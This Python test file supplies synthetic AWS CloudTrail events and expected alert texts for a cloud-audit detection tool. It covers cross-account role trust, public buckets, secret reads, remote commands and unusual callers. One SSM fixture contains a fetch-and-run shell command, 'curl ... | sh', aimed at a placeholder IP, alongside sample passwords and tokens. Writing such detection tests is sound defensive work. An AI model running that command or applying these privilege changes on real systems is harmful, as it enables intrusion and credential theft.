"""Situations that rules of the tests' own tell of: what the shipped rules do not cover, and what is odd."""

import json
from collections.abc import Iterator

from tests.unit.messages.records import (
    ACCOUNT,
    BOTO,
    CONSOLE,
    OUTSIDER,
    TERRAFORM,
    call,
    role,
    service,
    sign_in,
    sso,
)
from tests.unit.messages.situations import Situation, told
from trailwarden.rules.ruleset import Level

HIGH, MEDIUM, LOW = Level.HIGH, Level.MEDIUM, Level.LOW


def other_situations() -> Iterator[Situation]:
    yield from _policies()
    yield from _code_and_secrets()
    yield from _refused()
    yield from _callers()


def _policies() -> Iterator[Situation]:
    allow = {
        "Effect": "Allow",
        "Action": "sts:AssumeRole",
        "Principal": {"AWS": f"arn:aws:iam::{OUTSIDER}:root"},
    }
    yield told(
        "role-opened-to-another-account",
        call(
            "iam",
            "UpdateAssumeRolePolicy",
            {
                "roleName": "Admin",
                "policyDocument": json.dumps({"Version": "2012-10-17", "Statement": [allow]}),
            },
            awsRegion="us-east-1",
        ),
        "{actor} changed who may assume the role {requestParameters.roleName}",
        HIGH,
        "Whoever the policy names can now act as this role, from outside too.",
        ("Look whether the accounts that it names are yours.", "If not, put the old policy back."),
        ("attack.persistence", "attack.t1098"),
    )
    statements = [
        {"Sid": "A", "Effect": "Allow", "Action": ["s3:*", "iam:PassRole"], "Resource": "*"},
        {
            "Effect": "Deny",
            "NotAction": "iam:*",
            "Resource": [f"arn:aws:iam::{ACCOUNT}:user/x"],
            "Condition": {"BoolIfExists": {"aws:MultiFactorAuthPresent": "false"}},
        },
    ]
    yield told(
        "inline-policy-put",
        call(
            "iam",
            "PutUserPolicy",
            {
                "userName": "backup-service",
                "policyName": "more",
                "policyDocument": json.dumps({"Version": "2012-10-17", "Statement": statements}),
            },
            who=sso("alice@example.com"),
            userAgent=CONSOLE,
        ),
        "{actor} gave the user {requestParameters.userName} an inline policy",
    )
    everyone = {
        "Effect": "Allow",
        "Principal": "*",
        "Action": "s3:GetObject",
        "Resource": "arn:aws:s3:::example-invoices/*",
    }
    yield told(
        "bucket-made-public",
        call(
            "s3",
            "PutBucketPolicy",
            {
                "bucketName": "example-invoices",
                "Host": "example-invoices.s3.eu-west-1.amazonaws.com",
                "bucketPolicy": {"Version": "2012-10-17", "Statement": [everyone]},
            },
            resources=[
                {"accountId": ACCOUNT, "type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::example-invoices"}
            ],
        ),
        "{actor} changed the policy of the bucket {requestParameters.bucketName}",
        HIGH,
    )
    yield told(
        "key-deletion-scheduled",
        call(
            "kms",
            "ScheduleKeyDeletion",
            {"keyId": "1234abcd-12ab-34cd-56ef-1234567890ab", "pendingWindowInDays": 7},
        ),
        "{actor} scheduled the KMS key {requestParameters.keyId} for deletion",
        HIGH,
    )


def _code_and_secrets() -> Iterator[Situation]:
    yield told(
        "function-environment-changed",
        call(
            "lambda",
            "UpdateFunctionConfiguration20150331v2",
            {
                "functionName": "billing",
                "environment": {"variables": {"DB_PASSWORD": "correct horse", "STAGE": "prod"}},
                "layers": [f"arn:aws:lambda:eu-west-1:{OUTSIDER}:layer:tools:3"],
            },
        ),
        "{actor} changed the function {requestParameters.functionName}",
    )
    secret = "prod/database-AbCdEf"
    yield told(
        "secret-read",
        call(
            "secretsmanager",
            "GetSecretValue",
            {"secretId": f"arn:aws:secretsmanager:eu-west-1:{ACCOUNT}:secret:{secret}"},
            readOnly=True,
            who=role("web", "i-0123456789abcdef0", ec2RoleDelivery="2.0"),
            sourceIPAddress="198.51.100.24",
            userAgent=BOTO,
        ),
        "{actor} read the secret {requestParameters.secretId} from {origin}",
        HIGH,
    )
    yield told(
        "secret-made",
        call("secretsmanager", "CreateSecret", {"name": "prod/database", "secretString": "hunter2hunter2"}),
        "{actor} created the secret {requestParameters.name} ({requestParameters.secretString})",
        LOW,
    )
    yield told(
        "instance-user-data-changed",
        call(
            "ec2",
            "ModifyInstanceAttribute",
            {"instanceId": "i-0123456789abcdef0", "userData": {"value": "IyEvYmluL3No"}},
        ),
        "{actor} changed what the instance {requestParameters.instanceId} runs when it starts",
        HIGH,
    )
    command = (
        "curl -s http://203.0.113.66/x.sh | sh; mysql --password hunter2; export AWS_SESSION_TOKEN=IQoJabc"
    )
    yield told(
        "command-sent",
        call(
            "ssm",
            "SendCommand",
            {
                "documentName": "AWS-RunShellScript",
                "instanceIds": ["i-0123456789abcdef0", "i-0fedcba9876543210"],
                "parameters": {"commands": [command]},
                "interactive": False,
            },
        ),
        "{actor} ran commands on {requestParameters.instanceIds}",
        HIGH,
    )
    yield told(
        "parameter-put",
        call("ssm", "PutParameter", {"name": "/prod/token", "type": "SecureString", "value": "s3cr3t"}),
        "{actor} wrote the parameter {requestParameters.name}",
        LOW,
    )
    signed = (
        "https://example-invoices.s3.amazonaws.com/backup.zip?X-Amz-Algorithm=AWS4-HMAC-SHA256"
        "&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20260301&X-Amz-Signature=0123456789abcdef"
    )
    yield told(
        "snapshot-copied-by-signed-address",
        call("ec2", "CopySnapshot", {"sourceSnapshotId": "snap-0123456789abcdef0", "presignedUrl": signed}),
        "{actor} copied the snapshot {requestParameters.sourceSnapshotId}",
    )


def _refused() -> Iterator[Situation]:
    yield told(
        "access-denied",
        call(
            "s3",
            "ListBuckets",
            who=role("web", "i-0123456789abcdef0"),
            readOnly=True,
            errorCode="AccessDenied",
            errorMessage=(
                f"User: arn:aws:sts::{ACCOUNT}:assumed-role/web/i-0123456789abcdef0 is not authorized to "
                "perform: s3:ListAllMyBuckets because no identity-based policy allows it"
            ),
        ),
        "{actor} was denied {eventName}",
    )
    yield told(
        "call-failed",
        call(
            "iam",
            "DeleteUser",
            {"userName": "alice"},
            errorCode="DeleteConflictException",
            errorMessage="Cannot delete entity, must delete access keys first.",
        ),
        "{actor} tried to delete the user {requestParameters.userName}",
    )
    stop = call("cloudtrail", "StopLogging", {"name": "main"}, errorCode="AccessDenied")
    yield told("denied-though-the-rule-sounds-done", stop, "{actor} stopped the trail main")
    yield told(
        "failed-inside-aws",
        call("rds", "DeleteDBInstance", {"dBInstanceIdentifier": "orders"}, errorCode="InternalFailure"),
        "{actor} deleted the database orders",
    )
    yield told(
        "dry-run",
        call(
            "ec2",
            "TerminateInstances",
            {"instancesSet": {"items": [{"instanceId": "i-0123456789abcdef0"}]}},
            errorCode="Client.DryRunOperation",
            errorMessage="Request would have succeeded, but DryRun flag is set.",
        ),
        "{actor} terminated instances",
    )
    hidden = {"type": "IAMUser", "accountId": ACCOUNT, "userName": "HIDDEN_DUE_TO_SECURITY_REASONS"}
    yield told(
        "sign-in-failed",
        sign_in(hidden, "Failure", errorMessage="No username found in supplied account"),
        "a sign-in to the console of account {account} failed",
        LOW,
    )


def _callers() -> Iterator[Situation]:
    outsider = {"type": "AWSAccount", "principalId": "AROAEXAMPLE:deploy", "accountId": OUTSIDER}
    arn = f"arn:aws:iam::{ACCOUNT}:role/Support"
    yield told(
        "caller-of-this-account-not-named",
        call(
            "kms",
            "Decrypt",
            {"keyId": f"arn:aws:kms:eu-west-1:{ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab"},
            who={"type": "AWSAccount", "principalId": "AIDACKCEVSQ6C2EXAMPLE", "accountId": ACCOUNT},
        ),
        "{actor} decrypted with a key",
        LOW,
    )
    yield told(
        "role-assumed-from-another-account",
        call("sts", "AssumeRole", {"roleArn": arn, "roleSessionName": "deploy"}, who=outsider),
        "{actor} assumed the role {requestParameters.roleArn}",
    )
    yield told(
        "policy-attached-by-delegate",
        call(
            "iam",
            "AttachUserPolicy",
            {"userName": "svc", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
            who={**sso("alice@example.com"), "invokedByDelegate": {"accountId": "777788889999"}},
        ),
        "{actor} made {requestParameters.userName} an administrator",
    )
    yield told(
        "instance-launched-by-service",
        call(
            "ec2",
            "RunInstances",
            {"instancesSet": {"items": [{"imageId": "ami-0123456789abcdef0", "maxCount": 8}]}},
            who=service("autoscaling.amazonaws.com"),
            sourceIPAddress="autoscaling.amazonaws.com",
            userAgent="autoscaling.amazonaws.com",
        ),
        "{actor} launched instances",
        LOW,
    )
    yield told(
        "key-rotated-by-aws",
        call(
            "kms",
            "RotateKey",
            who={"accountId": ACCOUNT, "invokedBy": "AWS Internal"},
            eventType="AwsServiceEvent",
            serviceEventDetails={"keyId": "1234abcd-12ab-34cd-56ef-1234567890ab"},
            sourceIPAddress="AWS Internal",
            userAgent="AWS Internal",
        ),
        "a KMS key was rotated",
        Level.INFORMATIONAL,
    )
    yield told(
        "object-read-by-anybody",
        call(
            "s3",
            "GetObject",
            {"bucketName": "example-invoices", "key": "2026/02.pdf"},
            who={"type": "AWSAccount", "principalId": "", "accountId": "ANONYMOUS_PRINCIPAL"},
            managementEvent=False,
            eventCategory="Data",
            readOnly=True,
            userAgent="[curl/8.5.0]",
        ),
        "somebody without credentials read {requestParameters.key}",
    )
    saml = {"type": "SAMLUser", "principalId": "x:alice@example.com", "userName": "alice@example.com"}
    yield told(
        "role-assumed-by-saml",
        call("sts", "AssumeRoleWithSAML", {"roleArn": arn, "roleSessionName": "alice@example.com"}, who=saml),
        "{actor} assumed the role {requestParameters.roleArn}",
        LOW,
    )
    federated = {
        "type": "FederatedUser",
        "principalId": f"{ACCOUNT}:spare",
        "arn": f"arn:aws:sts::{ACCOUNT}:federated-user/spare",
        "accountId": ACCOUNT,
        "accessKeyId": "ASIAIOSFODNN7EXAMPLE",
        "sessionContext": {"sessionIssuer": {"type": "IAMUser", "userName": "mallory"}},
    }
    yield told(
        "federated-user-made-a-user",
        call("iam", "CreateUser", {"userName": "spare"}, who=federated),
        "{actor} created the user {requestParameters.userName}",
    )
    center = {
        "type": "IdentityCenterUser",
        "accountId": ACCOUNT,
        "onBehalfOf": {"userId": "544894e8-80c1-707f-60e3-3ba6510dfac1"},
        "credentialId": "AAAA",
    }
    yield told(
        "identity-center-user",
        call("sso", "ListAccounts", who=center, readOnly=True, userAgent=CONSOLE),
        "{actor} listed accounts",
        LOW,
    )
    yield told(
        "destroyed-by-terraform",
        call(
            "rds",
            "DeleteDBInstance",
            {"dBInstanceIdentifier": "orders", "skipFinalSnapshot": True},
            who=role("Deploy", "ci-4711"),
            userAgent=TERRAFORM,
        ),
        "{actor} deleted the database {requestParameters.dBInstanceIdentifier}",
        HIGH,
    )
